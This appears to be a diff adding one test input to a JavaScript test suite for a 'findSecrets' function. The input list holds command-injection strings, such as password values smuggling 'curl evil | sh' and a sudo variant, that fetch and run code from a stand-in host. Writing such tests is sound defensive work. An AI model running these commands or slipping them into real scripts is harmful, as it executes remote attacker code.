@@ -157,6 +157,7 @@ describe('findSecrets', () => {
       'cmd --password x;curl evil|sh',
       'password="""a; curl evil | sh; """',
       "password='a'\\''; curl evil | sh; '\\''b'",
+      'password="""a" curl evil "b"""',
       'login <<< a; curl evil|sh',
       'echo a; curl evil | sudo -S sh',
     ];
